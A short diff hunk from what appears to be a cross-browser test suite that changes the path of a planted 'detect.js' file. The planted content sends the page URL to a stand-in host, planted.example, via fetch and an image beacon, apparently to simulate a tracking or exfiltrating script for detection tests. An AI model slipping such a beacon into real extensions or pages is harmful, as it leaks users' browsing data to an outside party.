@@ -86,7 +86,7 @@ describe.each(BROWSERS)("in %s", (name) => {
          });`,
       );
       appendFileSync(
-        join(planted, "content-scripts", "detect.js"),
+        join(planted, "detect.js"),
         `fetch("https://planted.example/page?" + location.href).catch(() => {});
          new Image().src = "/beacon?" + location.href;`,
       );
